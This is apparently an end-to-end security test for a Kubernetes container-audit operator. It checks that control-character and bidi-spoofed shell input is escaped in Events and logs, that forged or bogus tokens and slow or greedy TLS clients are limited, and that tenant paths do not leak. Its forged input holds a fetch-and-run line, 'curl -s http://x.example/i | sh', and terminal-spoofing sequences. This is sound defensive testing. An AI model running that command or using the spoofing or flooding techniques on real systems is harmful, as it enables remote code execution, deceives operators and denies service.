/**
 * Hostile input against the operator as it runs (operator.ts: informers, leader election, the policy
 * reconciler, the agents' endpoint over HTTPS), in this process, against the real kube-apiserver: what a
 * container's shell, a pod in the cluster or a slow client can do to what people read and to the endpoint.
 *
 * - typed text cannot forge `kubectl describe pod`: control and bidi characters are stored escaped in the
 *   Event, while the AuditRecord keeps the exact bytes;
 * - a flood of bogus tokens causes no TokenReview (the API server's own request counter says so), and forged
 *   JWTs for our audience cause a bounded number (429 after that);
 * - a client that sends its headers slowly, or never finishes TLS, is disconnected; one address cannot hold
 *   more than its share of connections;
 * - after a coverage gap under a hostile path, the cluster-scoped policy status carries counts and categories
 *   and no path; the path stays in the AuditRecord of the pod's namespace; the operator's log quotes none of
 *   it raw.
 *
 * The agent is played by this test with a real projected token (TokenRequest, bound to an agent Pod on the
 * node). No scheduler or kubelet: Pods stay Pending with spec.nodeName set here.
 */
import { randomBytes, randomUUID } from 'node:crypto';
import { rmSync } from 'node:fs';
import { connect as connectTcp } from 'node:net';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { connect as connectTls, type TLSSocket } from 'node:tls';
import { CoreV1Api, CustomObjectsApi, NodeV1Api, type V1Pod } from '@kubernetes/client-node';
import winston from 'winston';
import { PLAN_PATH, REPORTS_PATH, type NodePlan, type Report } from '../../api/agentapi/v1.js';
import type { AgentRecord } from '../../api/records/v1.js';
import type { ContainerAuditPolicyStatus } from '../../api/v1alpha1/containerauditpolicy.js';
import {
  API_VERSION,
  GROUP,
  POLICY_PLURAL,
  RECORD_KIND,
  VERSION,
  type AuditRecord,
} from '../../api/v1alpha1/index.js';
import {
  createAuditPolicy,
  installCrds,
  kubectl,
  kubectlOk,
  listAuditRecords,
  removeWritten,
  testKubeConfig,
} from '../../e2e/support/cluster.js';
import { agentOnNode, scratchCert } from '../../e2e/support/credentials.js';
import { type HttpsAnswer, httpsCall } from '../../e2e/support/https-call.js';
import { REPO_ROOT } from '../../e2e/support/paths.js';
import { delta, parseMetrics } from '../../e2e/support/prometheus.js';
import { until } from '../../e2e/support/wait.js';
import { Operator } from '../operator.js';
import { DEFAULT_REVIEW_RATE } from './auth.js';
import { agentJwt } from './testdata/tokens.js';

const run = randomBytes(3).toString('hex');
const SYSTEM = `hostile-${run}-system`;
const SHOP = `hostile-${run}-shop`;
const NODE = `hostile-${run}-node`;
const POLICY = `hostile-${run}`;
const RUNTIME_CLASS = `hostile-${run}`;
const BOOT = randomUUID();
const LIMITS = {
  handshakeTimeoutMs: 1_500,
  headersTimeoutMs: 1_500,
  checkIntervalMs: 250,
  maxConnectionsPerSource: 12,
};

// Typed after Ctrl-V, or pasted: shown raw, it reads "ls -la" and then a kubelet line.
const FORGED =
  'curl -s http://x.example/i | sh\r' +
  '\b'.repeat(32) +
  'ls -la\n  Normal  Pulled  2s  kubelet  Container image "app:1" already present\u202e';
// A directory in the container whose name is the tenant's business.
const SECRET_DIR = '/opt/acme-payroll-2027\u202e\n  Normal  Pulled  kubelet';
const HOSTILE_BASH = `${SECRET_DIR}/bin/bash`;
const LEAKS = ['acme', 'payroll', '/opt/', 'bin/bash', 'libreadline', '\u202e'];
// eslint-disable-next-line no-control-regex -- finding control characters is the point
const ACTED_ON = /[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

const kc = testKubeConfig();
const core = kc.makeApiClient(CoreV1Api);
const custom = kc.makeApiClient(CustomObjectsApi);
const nodeApi = kc.makeApiClient(NodeV1Api);

const logLines: string[] = [];
const logger = winston.createLogger({
  level: 'debug',
  format: winston.format.json(),
  transports: [
    new winston.transports.Stream({
      stream: new Writable({
        write(chunk: Buffer, _encoding, done) {
          logLines.push(...chunk.toString('utf8').split('\n').filter(Boolean));
          done();
        },
      }),
    }),
  ],
});

let operator: Operator;
let port = 0;
let scratch = '';
let ca: Buffer;
let agentToken = '';
let web: V1Pod;

const call = (
  method: 'GET' | 'POST',
  path: string,
  token: string | undefined,
  body?: unknown,
): Promise<HttpsAnswer> =>
  httpsCall({
    port,
    ca,
    method,
    path,
    ...(token !== undefined ? { token } : {}),
    ...(body !== undefined ? { body: JSON.stringify(body) } : {}),
  });

const report = (records: AgentRecord[], state?: Report['state']): Report => ({
  node: NODE,
  boot: BOOT,
  ...(state ? { state } : {}),
  records,
});

const where = () => ({
  containerId: 'c0ffee0123456789abcdef',
  pod: { namespace: SHOP, name: 'web-0', uid: web.metadata!.uid! },
  container: 'app',
  image: 'registry.example/app:1',
  policy: POLICY,
});

let seq = 0;
const header = () => ({ seq: ++seq, boot: BOOT, node: NODE, time: new Date().toISOString() });

async function getPolicy(): Promise<{ status?: ContainerAuditPolicyStatus }> {
  return (await custom.getClusterCustomObject({
    group: GROUP,
    version: VERSION,
    plural: POLICY_PLURAL,
    name: POLICY,
  })) as { status?: ContainerAuditPolicyStatus };
}

async function auditRecords(): Promise<AuditRecord[]> {
  return listAuditRecords(custom, SHOP);
}

/** The API server's own count of TokenReviews it was asked. */
async function tokenReviewsServed(): Promise<Map<string, number>> {
  return parseMetrics(await kubectlOk(['get', '--raw', '/metrics']), ['apiserver_request_total']);
}

const reviewsBetween = (before: Map<string, number>, after: Map<string, number>) =>
  delta(before, after, (_name, labels) => labels.resource === 'tokenreviews');

/** Every string in a parsed JSON value. */
function strings(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (typeof value !== 'object' || value === null) return [];
  return Object.values(value).flatMap(strings);
}

/** A plan request with `token`, on a connection of its own: the status and the Retry-After header. */
function rawGet(token: string): Promise<{ status: number; retryAfter: string | undefined }> {
  return new Promise((resolve, reject) => {
    // Written, not ended: a client that half-closes may be cut before its answer.
    const socket = connectTls({ host: '127.0.0.1', port, ca, servername: 'localhost' }, () =>
      socket.write(
        `GET ${PLAN_PATH}?node=${NODE} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token}\r\n` +
          'Connection: close\r\n\r\n',
      ),
    );
    let text = '';
    socket.on('data', (d: Buffer) => (text += d.toString('utf8')));
    socket.on('error', reject);
    socket.on('close', () =>
      resolve({
        status: Number(/^HTTP\/1\.1 (\d+)/.exec(text)?.[1] ?? 0),
        retryAfter: /^retry-after: *(\d+)/im.exec(text)?.[1],
      }),
    );
  });
}

/** Runs `tasks` with at most `width` at a time; their results in order. */
async function inBatches<T>(tasks: (() => Promise<T>)[], width: number): Promise<T[]> {
  const results: T[] = [];
  for (let i = 0; i < tasks.length; i += width)
    results.push(...(await Promise.all(tasks.slice(i, i + width).map((t) => t()))));
  return results;
}

/** A TLS connection to the endpoint, once it is established (or undefined if the server cut it first). */
function tlsConnection(): Promise<TLSSocket | undefined> {
  return new Promise((resolve) => {
    const socket = connectTls({ host: '127.0.0.1', port, ca, servername: 'localhost' });
    socket.once('secureConnect', () => resolve(socket));
    socket.once('error', () => resolve(undefined));
    socket.once('close', () => resolve(undefined));
  });
}

/** When `socket` closes, and what it received before. */
function closed(
  socket: NodeJS.ReadableStream & NodeJS.EventEmitter,
): Promise<{ at: number; received: string }> {
  return new Promise((resolve) => {
    let received = '';
    socket.on('data', (d: Buffer) => (received += d.toString('utf8')));
    socket.on('error', () => undefined);
    socket.once('close', () => resolve({ at: Date.now(), received }));
  });
}

beforeAll(async () => {
  await installCrds();
  // The oldest policy selecting a container audits it; the examples select every pod and would be older.
  await kubectlOk(['delete', '--ignore-not-found', '-f', join(REPO_ROOT, 'examples')]);
  await nodeApi.createRuntimeClass({ body: { metadata: { name: RUNTIME_CLASS }, handler: RUNTIME_CLASS } });
  await core.createNode({ body: { metadata: { name: NODE } } });
  await core.createNamespace({ body: { metadata: { name: SYSTEM } } });
  await core.createNamespace({ body: { metadata: { name: SHOP, labels: { 'hostile-run': run } } } });
  ({ token: agentToken } = await agentOnNode(core, {
    namespace: SYSTEM,
    node: NODE,
    image: 'registry.example/agent:1',
    expirationSeconds: 600,
  }));
  web = await core.createNamespacedPod({
    namespace: SHOP,
    body: {
      metadata: { name: 'web-0', labels: { app: 'web' } },
      spec: {
        nodeName: NODE,
        runtimeClassName: RUNTIME_CLASS,
        containers: [{ name: 'app', image: 'registry.example/app:1' }],
      },
    },
  });
  await createAuditPolicy(custom, POLICY, {
    selector: { namespaceSelector: { matchLabels: { 'hostile-run': run } } },
  });

  const tls = scratchCert('hostile-');
  ({ dir: scratch, ca } = tls);
  operator = new Operator({
    kubeConfig: kc,
    logger,
    port: 0,
    host: '127.0.0.1',
    tls: { certFile: tls.certFile, keyFile: tls.keyFile },
    probePort: 0,
    agentServiceAccount: { namespace: SYSTEM, name: 'agent' },
    lease: {
      namespace: SYSTEM,
      name: 'operator',
      durationMs: 4000,
      renewDeadlineMs: 3000,
      retryPeriodMs: 500,
    },
    runtimeClass: RUNTIME_CLASS,
    endpointLimits: LIMITS,
  });
  ({ port } = await operator.start());
  await until('the operator to lead', () => operator.isLeader());
  // The node's plan names our container under our policy (nothing older selects it).
  const plan = await until('the plan', async () => {
    const answer = await call('GET', `${PLAN_PATH}?node=${NODE}`, agentToken);
    const p = answer.status === 200 ? (answer.body as NodePlan) : undefined;
    return p?.containers.some((c) => c.podName === 'web-0') ? p : undefined;
  });
  expect(plan.containers).toEqual([
    expect.objectContaining({ podName: 'web-0', containerName: 'app', policy: POLICY }),
  ]);
}, 120_000);

afterAll(async () => {
  await operator?.stop().catch(() => undefined);
  if (scratch) rmSync(scratch, { recursive: true, force: true });
  // No controller-manager: nothing garbage-collects; remove what other tests could list cluster-wide.
  await custom
    .deleteClusterCustomObject({ group: GROUP, version: VERSION, plural: POLICY_PLURAL, name: POLICY })
    .catch(() => undefined);
  await removeWritten(core, custom, SHOP);
  await core
    .deleteNamespacedPod({ namespace: SHOP, name: 'web-0', gracePeriodSeconds: 0 })
    .catch(() => undefined);
  await core
    .deleteNamespacedPod({ namespace: SYSTEM, name: 'agent', gracePeriodSeconds: 0 })
    .catch(() => undefined);
  await core.deleteNode({ name: NODE }).catch(() => undefined);
  await nodeApi.deleteRuntimeClass({ name: RUNTIME_CLASS }).catch(() => undefined);
  for (const name of [SYSTEM, SHOP]) await core.deleteNamespace({ name }).catch(() => undefined);
});

describe('typed text and what people read', () => {
  it('an Event for a command with \\b, \\n and U+202E is stored escaped; the AuditRecord keeps the bytes', async () => {
    const answer = await call(
      'POST',
      REPORTS_PATH,
      agentToken,
      report([
        {
          kind: 'command',
          ...header(),
          ...where(),
          pid: 4242,
          nsPid: 7,
          uid: 0,
          command: FORGED,
          truncated: false,
          redacted: false,
          alerts: [],
        },
      ]),
    );
    expect(answer).toMatchObject({ status: 200, body: { accepted: 1 } });

    const events = (
      await core.listNamespacedEvent({ namespace: SHOP, fieldSelector: 'involvedObject.name=web-0' })
    ).items;
    const shell = events.find((e) => e.reason === 'ShellCommand')!;
    expect(shell.message).not.toMatch(ACTED_ON);
    expect(shell.message).toBe(
      'app (uid 0, pid 4242): curl -s http://x.example/i | sh\\x0d' +
        '\\x08'.repeat(32) +
        'ls -la\\x0a  Normal  Pulled  2s  kubelet  Container image "app:1" already present\\u{202e}',
    );
    // What a person sees: the whole command on one line, nothing a terminal would act on.
    const describe = await kubectlOk(['describe', 'pod', '-n', SHOP, 'web-0']);
    const line = describe.split('\n').find((l) => l.includes('ShellCommand'))!;
    expect(line).toContain('curl -s http://x.example/i | sh\\x0d\\x08');
    expect(describe).not.toMatch(/[\b\u202e]/);
    expect(describe.split('\n').filter((l) => l.includes('Pulled'))).toEqual([line]);

    const [record] = await auditRecords();
    expect(record!.status!.commands!.map((c) => c.command)).toEqual([FORGED]);
  });

  it('an AuditRecord whose columns would show control characters is refused by the API server', async () => {
    const result = await kubectl(
      ['create', '-f', '-'],
      JSON.stringify({
        apiVersion: API_VERSION,
        kind: RECORD_KIND,
        metadata: { name: `forged-${run}`, namespace: SHOP },
        spec: {
          pod: { name: 'web-0\b\b\b\b\bdb-0', uid: 'u' },
          container: { name: 'app', id: 'c0ffee' },
          node: NODE,
          policy: POLICY,
          session: { kind: 'shell', pid: 1, start: new Date().toISOString() },
        },
      }),
    );
    expect(result.code).not.toBe(0);
    expect(result.stderr).toMatch(/spec\.pod\.name.*should match/);
  });
});

describe('a coverage gap under a hostile path', () => {
  it('leaves no path in the cluster-scoped policy status: counts and categories only', async () => {
    const gap: AgentRecord = {
      kind: 'coverage',
      ...header(),
      ...where(),
      status: 'gap',
      bash: HOSTILE_BASH,
      target: `/proc/4242/root${HOSTILE_BASH}`,
      reason: `no readline in ${HOSTILE_BASH} nor in ${SECRET_DIR}/lib/libreadline.so.8`,
    };
    const state = {
      planVersion: 'v1',
      auditedContainers: 1,
      probesAttached: 0,
      errors: [`container c0ffee0123456789: ${HOSTILE_BASH} cannot be probed: no readline`],
      queueDropped: 0,
    };
    expect(await call('POST', REPORTS_PATH, agentToken, report([gap], state))).toMatchObject({ status: 200 });

    const status = await until('Degraded with the losses', async () => {
      const s = (await getPolicy()).status;
      const degraded = s?.conditions?.find((c) => c.type === 'Degraded');
      return degraded?.message.includes('coverage gap') ? s : undefined;
    });
    const text = JSON.stringify(status);
    for (const leak of LEAKS) expect(text).not.toContain(leak);
    expect(status.conditions!.find((c) => c.type === 'Degraded')!.message).toContain(
      `1 container not audited (coverage gap) on node ${NODE}`,
    );
    expect(status.nodes).toEqual([expect.objectContaining({ name: NODE, errors: ['container'] })]);
    const described = await kubectlOk(['describe', POLICY_PLURAL, POLICY]);
    for (const leak of LEAKS) expect(described).not.toContain(leak);
  });

  it('keeps the detail in the pod’s namespace: a Warning Event (escaped) and a loss on the AuditRecord', async () => {
    const events = (
      await core.listNamespacedEvent({ namespace: SHOP, fieldSelector: 'involvedObject.name=web-0' })
    ).items;
    const notAudited = events.find((e) => e.reason === 'NotAudited')!;
    expect(notAudited.type).toBe('Warning');
    expect(notAudited.message).not.toMatch(ACTED_ON);
    expect(notAudited.message).toContain(
      'app is not audited: no readline in /opt/acme-payroll-2027\\u{202e}\\x0a',
    );
    const losses = await until('the loss on the AuditRecord', async () => {
      const [record] = await auditRecords();
      return record?.status?.losses?.length ? record.status.losses : undefined;
    });
    expect(losses[0]!.reason).toContain(HOSTILE_BASH);
  });

  it('the operator’s log quotes none of it raw', () => {
    expect(logLines.length).toBeGreaterThan(0);
    for (const line of logLines) {
      for (const text of strings(JSON.parse(line))) expect(text).not.toMatch(ACTED_ON);
      expect(line).not.toContain('acme-payroll');
      expect(line).not.toContain('x.example/i');
    }
  });
});

describe('the endpoint under a flood', () => {
  it('answers a flood of bogus tokens 401 without a single TokenReview', async () => {
    const before = await tokenReviewsServed();
    const bogus = [
      ...Array.from({ length: 50 }, (_, i) => `not-a-jwt-${i}`),
      ...Array.from({ length: 50 }, (_, i) => agentJwt({ aud: ['https://kubernetes.default.svc'], n: i })),
      ...Array.from({ length: 50 }, (_, i) => agentJwt({ exp: 1_000_000_000, n: i })),
      ...Array.from({ length: 50 }, (_, i) => `${'A'.repeat(9000)}.${i}.x`),
    ];
    const answers = await inBatches(
      bogus.map((token) => () => call('GET', `${PLAN_PATH}?node=${NODE}`, token)),
      8,
    );
    expect(new Set(answers.map((a) => a.status))).toEqual(new Set([401]));
    expect(reviewsBetween(before, await tokenReviewsServed())).toBe(0);
  });

  it('answers forged JWTs for our audience with a bounded number of reviews, then 429 with Retry-After', async () => {
    const before = await tokenReviewsServed();
    const started = Date.now();
    const answers: { status: number; retryAfter: string | undefined }[] = [];
    for (let i = 0; i < 40; i++) answers.push(await rawGet(agentJwt({ jti: `forged-${run}-${i}` })));
    const seconds = (Date.now() - started) / 1000;
    const reviews = reviewsBetween(before, await tokenReviewsServed());
    // At most the burst of one address, and what refilled while the flood lasted.
    const { burst, perSecond } = DEFAULT_REVIEW_RATE;
    expect(reviews).toBeGreaterThan(0);
    expect(reviews).toBeLessThanOrEqual(burst + Math.ceil(perSecond * seconds));
    expect(answers.filter((a) => a.status === 401)).toHaveLength(reviews);
    const limited = answers.filter((a) => a.status === 429);
    expect(limited).toHaveLength(40 - reviews);
    for (const a of limited) expect(Number(a.retryAfter)).toBeGreaterThanOrEqual(1);
    // The agent's own token was reviewed before: the cache answers it, however busy its address is.
    expect(await call('GET', `${PLAN_PATH}?node=${NODE}`, agentToken)).toMatchObject({ status: 200 });
  });
});

describe('slow and greedy clients', () => {
  it('a client that sends its headers slowly is answered 408 and disconnected after the header time-out', async () => {
    const socket = (await tlsConnection())!;
    const started = Date.now();
    const done = closed(socket);
    socket.write(`GET ${PLAN_PATH}?node=${NODE} HTTP/1.1\r\nHost: x\r\n`);
    const drip = setInterval(() => socket.writable && socket.write('X-Slow: 1\r\n'), 200);
    const { at, received } = await done;
    clearInterval(drip);
    expect(at - started).toBeGreaterThanOrEqual(LIMITS.headersTimeoutMs - 100);
    expect(at - started).toBeLessThan(LIMITS.headersTimeoutMs + 3_000);
    expect(received).toMatch(/^HTTP\/1\.1 408/);
  });

  it('a client that never starts TLS is disconnected after the handshake time-out', async () => {
    const socket = connectTcp({ host: '127.0.0.1', port });
    const started = Date.now();
    const { at } = await closed(socket);
    expect(at - started).toBeGreaterThanOrEqual(LIMITS.handshakeTimeoutMs - 100);
    expect(at - started).toBeLessThan(LIMITS.handshakeTimeoutMs + 3_000);
  });

  it('one address holds at most its share of connections; more are cut before TLS', async () => {
    const held = await Promise.all(
      Array.from({ length: LIMITS.maxConnectionsPerSource }, () => tlsConnection()),
    );
    try {
      expect(held.every((s) => s !== undefined)).toBe(true);
      expect(await tlsConnection()).toBeUndefined();
    } finally {
      for (const s of held) s?.destroy();
    }
    await until('the connections to be counted closed', async () => {
      const s = await tlsConnection();
      s?.destroy();
      return s !== undefined;
    });
  });
});
